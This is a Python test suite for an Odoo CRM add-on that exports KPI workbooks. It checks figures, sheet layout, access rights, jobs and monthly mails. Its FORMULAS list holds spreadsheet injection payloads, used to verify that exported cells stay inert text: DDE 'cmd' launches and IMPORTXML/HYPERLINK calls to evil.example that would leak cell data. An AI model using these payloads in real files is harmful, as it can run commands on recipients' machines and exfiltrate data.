import doctest
from datetime import date, datetime
from io import BytesIO
from unittest.mock import patch

import openpyxl
from dateutil.relativedelta import relativedelta
from freezegun import freeze_time

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import BaseCase, Form, tagged
from odoo.tools import mute_logger

from ...kpi.catalogue import KPIS
from ...models.workbook import crm_kpi_workbook_deals, crm_workbook
from ...workbook import text
from ...workbook.book import Book, Column, Style
from ..figures.test_kpi import PERIOD, KpiCase

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","Click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "http://evil.example",
    "mailto:evil@example.com",
    "internal:'Cover'!A1",
    "12345",
    "{=SUM(1)}",
]
SCRIPTS = [
    "Éléphant à l’œuf",
    "北京机械厂",
    "株式会社ポンプ",
    "شركة المضخات",
    "חברת משאבות",
    "Насосный завод",
    "पंप उद्योग",
    "ปั๊มน้ำ",
    "👩‍🔧 Pumps 🚀",
    "e\u0301 combining",
    "\x07 bell \x1b escape",
    "_x0041_",
    "<b>&amp;</b> \"quotes\" 'single'",
]


@tagged("post_install", "-at_install")
class TestBook(BaseCase):
    """The writer alone."""

    def _write(self, columns, rows, **options):
        target = BytesIO()
        style = Style('#,##0.00 "€"', "dd/mm/yyyy", "dd/mm/yyyy hh:mm")
        with Book(target, style, "Page {page} of {pages}") as book:
            for is_streamed in (False, True):
                sheet = book.add_sheet("Deals", is_streamed=is_streamed)
                book.write_title(sheet, "Title", "Remark")
                book.write_table(sheet, 3, columns, rows, len(rows), **options)
        target.seek(0)
        return openpyxl.load_workbook(target)

    def test_doctests(self):
        self.assertEqual(doctest.testmod(text).failed, 0)

    def test_texts_stay_texts(self):
        values = FORMULAS + SCRIPTS + ["x" * 32_767, "y" * 40_000, "😀" * 20_000]
        book = self._write([Column("Name")], [[value] for value in values])
        for sheet in book:
            for row, value in enumerate(values, start=5):
                cell = sheet.cell(row, 1)
                self.assertIn(cell.data_type, ("s", "inlineStr"), value[:40])
                self.assertIsNone(cell.hyperlink)
                # openpyxl reads escaped characters of one kind of cell only.
                found = cell.value, openpyxl.utils.escape.unescape(cell.value)
                if len(value) < 1000:
                    expected = value.replace("\r", "\n")
                    self.assertIn(
                        expected, [each.replace("\r", "\n") for each in found]
                    )
                else:
                    self.assertLessEqual(text.get_length(cell.value), 32_767)
            for row in range(5, 5 + 11):
                self.assertTrue(
                    sheet.cell(row, 1).quotePrefix, sheet.cell(row, 1).value
                )

    def test_tables(self):
        """Both kinds of sheet have a table of the same cells, headers all different."""
        columns = [
            Column("Name"),
            Column("name", "amount", bar=True),
            Column("", "percentage"),
            Column("Day", "date"),
        ]
        rows = [["a", 12.5, 25.0, date(2026, 1, 2)], ["b", None, None, None]]
        book = self._write(columns, rows)
        self.assertEqual(book.sheetnames, ["Deals", "Deals (2)"])
        for sheet in book:
            (table,) = sheet.tables.values()
            self.assertEqual(table.ref, "A4:D6")
            self.assertEqual(table.autoFilter.ref, "A4:D6")
            self.assertEqual(sheet.freeze_panes, "B5")
            self.assertEqual(sheet.print_title_rows, "$4:$4")
            self.assertEqual(len({each.name.lower() for each in table.tableColumns}), 4)
            for cell, column in zip(sheet[4], table.tableColumns, strict=True):
                self.assertEqual(cell.value, column.name)
            self.assertEqual(sheet["B5"].value, 12.5)
            self.assertEqual(sheet["C5"].value, 0.25)
            self.assertIn("%", sheet["C5"].number_format)
            self.assertEqual(sheet["D5"].value, datetime(2026, 1, 2))
            self.assertIsNone(sheet["B6"].value)

    def test_empty(self):
        book = self._write([Column("Name"), Column("Sum", "count")], [], empty_text="-")
        for sheet in book:
            self.assertEqual(sheet["A5"].value, "-")

    def test_failure_leaves_no_files(self):
        with self.assertRaises(ZeroDivisionError):
            with Book(BytesIO(), Style("0", "d", "d"), "") as book:
                book.add_sheet("Deals", is_streamed=True)
                raise ZeroDivisionError


@tagged("post_install", "-at_install")
class TestWorkbook(KpiCase):
    """The workbook against the engine, as real roles."""

    def _open(self, user, filters=None, **context):
        target = BytesIO()
        context = {
            "tz": "Europe/Paris",
            "allowed_company_ids": user.company_ids.ids,
            **context,
        }
        writer = self.env["crm.kpi.workbook"].with_user(user).with_context(**context)
        writer._write_workbook(target, filters or {"period": PERIOD})
        target.seek(0)
        return openpyxl.load_workbook(target)

    def _get_rows(self, sheet, number=0):
        """Return the rows of a sheet's table as lists of values."""
        table = list(sheet.tables.values())[number]
        return [[cell.value for cell in row] for row in sheet[table.ref]][1:]

    def _figures(self, user, codes, breakdown=None, **filters):
        kpi = self.env["crm.kpi"].with_user(user)
        kpi = kpi.with_context(
            tz="Europe/Paris", allowed_company_ids=user.company_ids.ids
        )
        return kpi.get_figures({"period": PERIOD, **filters}, codes, breakdown)

    def test_summary(self):
        """Every number is the engine's; what is unknown is empty."""
        codes = [kpi.code for kpi in KPIS]
        answer = self._figures(self.boss, codes)
        rows = self._get_rows(self._open(self.boss)["Summary"])
        self.assertEqual(len(rows), len(KPIS))
        for kpi, row in zip(KPIS, rows, strict=True):
            (cell,) = answer["values"][kpi.code]
            unit = 100 if kpi.unit == "percentage" else 1
            for value, found in zip(
                (cell["value"], cell["comparison"]), row[2:4], strict=True
            ):
                if value is None:
                    self.assertIsNone(found, kpi.code)
                else:
                    self.assertAlmostEqual(found, value / unit, msg=kpi.code)

    def test_breakdowns(self):
        book = self._open(self.boss)
        for name, breakdown, codes in (
            (
                "Salespeople",
                "salesperson",
                ["created_count", "won_count", "won_amount"],
            ),
            ("Lost Reasons", "lost_reason", ["lost_count", "lost_amount"]),
            (
                "Postponed Closings",
                "salesperson",
                ["open_count", "late_count", "late_amount"],
            ),
        ):
            answer = self._figures(
                self.boss,
                {
                    "Salespeople": [
                        *codes,
                        "lost_count",
                        "win_rate",
                        "average_basket",
                        "sales_cycle",
                        "open_count",
                    ],
                    "Postponed Closings": [*codes, "postponed_count", "slip_days"],
                }.get(name, codes),
                breakdown,
            )
            rows = self._get_rows(book[name])
            labels = [key["label"] for key in answer["keys"]]
            self.assertEqual(
                [row[0] for row in rows], labels or ["Nothing in this period"]
            )
            if not labels:
                continue
            for index, row in enumerate(rows):
                for column, code in enumerate(codes, start=1):
                    value = answer["values"][code][index]["value"]
                    if value is None:
                        self.assertIsNone(row[column])
                    else:
                        self.assertAlmostEqual(row[column], value)

    def test_stages_and_forecast(self):
        filters = {"period": {"start": "2026-11-01", "end": "2026-11-30"}}
        filters["pipeline_ids"] = self.equipment.ids
        book = self._open(self.boss, filters)
        codes = ["open_count", "pipeline_amount", "weighted_amount"]
        for name, breakdown, first in (
            ("Pipeline", "stage", 2),
            ("Forecast", "month", 1),
        ):
            answer = self._figures(self.boss, codes, breakdown, **filters)
            rows = self._get_rows(book[name])
            keys = [
                index
                for index, _key in enumerate(answer["keys"])
                if answer["values"]["open_count"][index]["value"] is not None
            ]
            self.assertEqual(len(rows), len(keys), name)
            for index, row in zip(keys, rows, strict=True):
                for column, code in enumerate(codes, start=first):
                    self.assertAlmostEqual(
                        row[column], answer["values"][code][index]["value"]
                    )

    def test_deals(self):
        """The opportunities behind it, amounts in one currency, nobody else's."""
        start, end = datetime(2026, 9, 30, 22), datetime(2026, 10, 31, 23)
        for user in (self.boss, self.salesman, self.foreigner):
            leads = self.env["crm.lead"].with_user(user).with_context(active_test=False)
            expected = leads.search([("type", "=", "opportunity")]).filtered(
                lambda deal: (
                    (deal.won_status == "pending" and deal.active)
                    or start <= deal.date_start < end
                    or (deal.date_closed and start <= deal.date_closed < end)
                )
            )
            rows = self._get_rows(self._open(user)["Opportunities"])
            self.assertEqual(len(rows), len(expected), user.login)
            self.assertEqual(
                sorted(row[0] for row in rows), sorted(expected.mapped("name"))
            )
            for column, amounts in (
                (
                    7,
                    [
                        self._convert(deal, deal.expected_revenue, user.company_id)
                        for deal in expected
                    ],
                ),
                (8, expected.mapped("expected_revenue")),
            ):
                found = sum(row[column] for row in rows)
                self.assertAlmostEqual(found, sum(amounts), places=2)
            self.assertEqual(
                sorted(row[9] for row in rows),
                sorted(deal.company_currency.name for deal in expected),
            )

    def test_most_deals(self):
        self.patch(crm_kpi_workbook_deals, "MOST_DEALS", 5)
        sheet = self._open(self.boss)["Opportunities"]
        self.assertEqual(len(self._get_rows(sheet)), 5)
        self.assertIn("the 5 with the highest", sheet["A2"].value)

    def test_chosen_deals(self):
        deals = self.deals[:7]
        book = self._open(
            self.boss,
            {
                "period": {"start": "2026-01-01", "end": "2026-12-31"},
                "lead_ids": deals.ids,
            },
        )
        rows = self._get_rows(book["Opportunities"])
        self.assertEqual({row[0] for row in rows}, set(deals.sudo().mapped("name")))
        summary = self._get_rows(book["Summary"])
        self.assertEqual(summary[0][2], 7)

    def test_cover(self):
        sheet = self._open(self.boss, {"team_ids": self.spares_team.ids})["Cover"]
        texts = [cell.value for row in sheet.iter_rows() for cell in row if cell.value]
        for expected in ("Tartempion", "Spares", "Europe/Paris", self.boss.name):
            self.assertTrue(any(expected in each for each in texts), expected)

    def test_empty_database(self):
        """A salesperson without any opportunity gets a whole workbook."""
        newcomer = self._new_user("newcomer", "sales_team.group_sale_salesman")
        book = self._open(newcomer, {"user_ids": newcomer.ids})
        self.assertGreaterEqual(len(book.sheetnames), 16, "other addons add theirs")
        self.assertEqual(
            self._get_rows(book["Opportunities"])[0][0], "Nothing in this period"
        )

    def test_names(self):
        """Whatever a salesperson may have typed."""
        for name in FORMULAS + SCRIPTS:
            self._new_deal(self.equipment, name=name, partner_name=name)
        self._new_deal(self.equipment, name="x" * 40_000)
        rows = self._get_rows(self._open(self.salesman)["Opportunities"])
        names = {openpyxl.utils.escape.unescape(row[0]).strip() for row in rows}
        for name in FORMULAS:
            self.assertIn(name.strip(), names)

    def test_languages(self):
        """Dates and currency as the language and the company have them."""
        self.env["res.lang"]._activate_lang("fr_FR")
        formats = {}
        for lang in ("en_US", "fr_FR"):
            sheet = self._open(self.boss, lang=lang).worksheets[-2]
            formats[lang] = sheet["M5"].number_format
        self.assertEqual(formats["fr_FR"], "dd/mm/yyyy")
        self.assertEqual(formats["en_US"], "mm/dd/yyyy")

    def test_units(self):
        """Days, hours and percentages say what they are."""
        sheet = self._open(self.boss).worksheets[1]
        formats = {
            kpi.unit: sheet.cell(row, 3).number_format
            for row, kpi in enumerate(KPIS, start=5)
        }
        self.assertEqual(formats["days"], '#,##0.0" days"')
        self.assertEqual(formats["hours"], '#,##0.0" h"')
        self.assertEqual(formats["percentage"], "0.0%")

    def test_percent_sign(self):
        """With a space or without one, as the language writes it."""
        writer = self.env["crm.kpi.workbook"]
        for translated, sign in (("%s%%", "%"), ("%s\xa0%%", '" "%')):
            with patch.object(type(self.env), "_", lambda *args, t=translated: t % ""):
                self.assertEqual(writer._get_percent_sign(), sign)

    def test_axes(self):
        """The axis of a chart is in the unit of its values."""
        (chart,) = self._open(self.boss)["Stages"]._charts
        self.assertEqual(chart.y_axis.numFmt.formatCode, '#,##0" days"')

    def test_table_names(self):
        """A table is called as its sheet; no header ends with a space."""
        for sheet in self._open(self.boss):
            for table in sheet.tables.values():
                self.assertIn(sheet.title.split()[0], table.name)
                for column in table.tableColumns:
                    self.assertEqual(column.name, column.name.strip())

    def test_print(self):
        for sheet in self._open(self.boss):
            self.assertIn("&P", sheet.oddFooter.right.text)
            self.assertTrue(sheet.sheet_properties.pageSetUpPr.fitToPage)


@tagged("post_install", "-at_install")
class TestWorkbookDelivery(KpiCase):
    """Download, job, monthly mail."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["crm.workbook.recipient"].search([]).unlink()
        cls.env["crm.workbook"].search([]).unlink()

    def _export(self, user, filters=None):
        workbooks = self.env["crm.workbook"].with_user(user)
        filters = {"period": PERIOD} if filters is None else filters
        action = workbooks.action_export(filters)
        return action, workbooks.search([], limit=1)

    def _read(self, workbook):
        content = workbook.sudo().attachment_id.raw
        return openpyxl.load_workbook(BytesIO(content))

    def test_download(self):
        action, workbook = self._export(self.salesman)
        self.assertEqual(action["tag"], "display_notification")
        self.assertIn("12/21/2026", action["params"]["message"], "says where it is")
        self.assertEqual(action["params"]["next"]["type"], "ir.actions.act_url")
        self.assertEqual(workbook.state, "done")
        self.assertEqual(workbook.date_end, date(2026, 12, 21))
        workbook.attachment_id.with_user(self.salesman).check_access("read")
        for user in (self.colleague, self.manager):
            with self.assertRaises(AccessError):
                workbook.with_user(user).read(["name"])
            with self.assertRaises(AccessError):
                workbook.attachment_id.with_user(user).read(["raw"])

    def test_double_press(self):
        """A second press gives the workbook of the first; other filters another one."""
        _action, first = self._export(self.salesman)
        _action, second = self._export(self.salesman)
        self.assertEqual(first, second)
        _action, other = self._export(self.salesman, {"period": "this_month"})
        self.assertNotEqual(other, first)
        _action, whole = self._export(self.salesman, {})
        _action, again = self._export(self.salesman, {})
        self.assertEqual(whole, again, "without any filter, too")
        _action, of_colleague = self._export(self.colleague)
        self.assertNotEqual(of_colleague, first)
        self.patch(crm_workbook, "MOMENT", relativedelta(seconds=-1))
        _action, later = self._export(self.salesman)
        self.assertNotEqual(later, first, "the figures may have changed by now")

    def test_double_press_of_a_long_one(self):
        self.patch(crm_workbook, "DEALS_AT_ONCE", 1)
        self.patch(crm_workbook, "MOMENT", relativedelta(seconds=-1))
        _action, first = self._export(self.salesman)
        _action, second = self._export(self.salesman)
        self.assertEqual(first, second, "it is still on its way")

    def test_wizard(self):
        deals = self.deals.filtered(lambda deal: deal.user_id == self.salesman)
        wizard = Form(
            self.env["crm.workbook.export"]
            .with_user(self.salesman)
            .with_context(active_model="crm.lead", active_ids=deals.ids)
        ).save()
        self.assertEqual(wizard.lead_count, len(deals), "lost ones included")
        wizard.action_export()
        workbook = self.env["crm.workbook"].with_user(self.salesman).search([], limit=1)
        self.assertEqual(workbook.filters["period"], "last_month")
        self.assertEqual(set(workbook.filters["lead_ids"]), set(deals.ids))
        wizard.preset = "custom"
        with self.assertRefused(UserError, "first and the last day"):
            wizard.action_export()

    def _run_job(self):
        with self.enter_registry_test_mode():
            self.env.ref("sales_pipeline_plus.ir_cron_workbook").method_direct_trigger()

    def test_job(self):
        """A long one is made by the job, with its user's rights."""
        self.patch(crm_workbook, "DEALS_AT_ONCE", 1)
        action, workbook = self._export(self.salesman)
        self.assertEqual(action["tag"], "display_notification")
        self.assertEqual(
            (workbook.state, workbook.attachment_id.id), ("pending", False)
        )
        self._run_job()
        self.assertEqual((workbook.state, workbook.progress), ("done", 100))
        rows = self._read(workbook)["Opportunities"].max_row - 4
        own = self.env["crm.lead"].with_user(self.salesman)
        own = own.with_context(active_test=False).search_count(
            [("type", "=", "opportunity")]
        )
        self.assertLessEqual(rows, own)
        message = self.env["mail.message"].search(
            [("partner_ids", "in", self.salesman.partner_id.ids)], limit=1
        )
        self.assertEqual(message.subject, workbook.name)

    def test_failure(self):
        """One that fails says so, and keeps nobody waiting."""
        self.patch(crm_workbook, "DEALS_AT_ONCE", 1)
        _action, first = self._export(self.salesman)
        _action, second = self._export(self.colleague)
        first.sudo().filters = {"planet": 3}
        logger = "odoo.addons.sales_pipeline_plus.models.workbook.crm_workbook"
        with mute_logger(logger):
            self._run_job()
        self.assertEqual((first.state, second.state), ("failed", "done"))
        self.assertIn("planet", first.error)
        first.sudo().filters = {}
        first.action_retry()
        self._run_job()
        self.assertEqual((first.state, first.error), ("done", False))

    def test_kept_for_a_time(self):
        _action, workbook = self._export(self.salesman)
        attachment = workbook.sudo().attachment_id
        self.env["crm.workbook"]._gc_workbooks()
        self.assertTrue(attachment.exists())
        with freeze_time("2026-12-22 10:00:00"):
            self.env["crm.workbook"]._gc_workbooks()
        self.assertFalse(workbook.sudo().exists())
        self.assertFalse(attachment.exists())

    def _add_recipient(self, user, **vals):
        return self.env["crm.workbook.recipient"].create(
            {
                "user_id": user.id,
                "company_id": user.company_id.id,
                "date_since": "2026-11-01",
                **vals,
            }
        )

    def test_monthly(self):
        """Each gets theirs, in their language; a repeated job sends nothing."""
        self.env["res.lang"]._activate_lang("fr_FR")
        self.salesman.lang = "fr_FR"
        recipients = self._add_recipient(self.salesman)
        recipients |= self._add_recipient(self.manager)
        late = self._add_recipient(self.colleague, day=25)
        mails = self.env["mail.mail"].search([])
        self._run_job()
        self._run_job()
        mails = self.env["mail.mail"].search([]) - mails
        self.assertEqual(
            mails.recipient_ids, recipients.user_id.partner_id, "one to each"
        )
        self.assertEqual(len(mails), 2)
        self.assertFalse(late.workbook_ids)
        own = recipients.filtered(lambda each: each.user_id == self.salesman)
        book = self._read(own.workbook_ids)
        names = {row[0] for row in book.worksheets[-2].iter_rows(5, values_only=True)}
        theirs = self.deals.filtered(lambda deal: deal.user_id != self.salesman)
        self.assertFalse(names & set(theirs.sudo().mapped("name")))
        self.assertEqual(own.workbook_ids.month, date(2026, 10, 1))
        with freeze_time("2026-12-26 10:00:00"):
            self._run_job()
        self.assertEqual(len((recipients | late).workbook_ids), 5, "and November")

    def test_monthly_interrupted(self):
        """A job that is stopped between making and sending goes on without doubles."""
        recipient = self._add_recipient(self.salesman)
        self.env["crm.workbook.recipient"]._add_due_workbooks()
        recipient.workbook_ids.state = "running"
        self.env["crm.workbook.recipient"]._add_due_workbooks()
        mails = self.env["mail.mail"].search([])
        self._run_job()
        self._run_job()
        self.assertEqual(len(self.env["mail.mail"].search([]) - mails), 1)

    def test_recipient_rights(self):
        stranger = self._new_user("stranger", "base.group_user")
        with self.assertRefused(ValidationError, "stranger", "no access to sales"):
            self._add_recipient(stranger)
        with self.assertRefused(ValidationError, "not one of their companies"):
            self._add_recipient(self.salesman, company_id=self.other_company.id)
        recipients = self.env["crm.workbook.recipient"]
        with self.assertRaises(AccessError):
            recipients.with_user(self.all_documents).create(
                {"user_id": self.salesman.id}
            )
        recipient = self._add_recipient(self.salesman)
        self.assertFalse(recipients.with_user(self.foreigner).search([]) & recipient)
        self.assertIn(recipient, recipients.with_user(self.manager).search([]))

    def test_settings(self):
        settings = self.env["res.config.settings"].create({"workbook_days": 10})
        settings.execute()
        _action, workbook = self._export(self.salesman)
        self.assertEqual(workbook.date_end, date(2026, 12, 1))
        with self.assertRefused(ValidationError, "a day at least"):
            self.env["res.config.settings"].create({"workbook_days": 0})
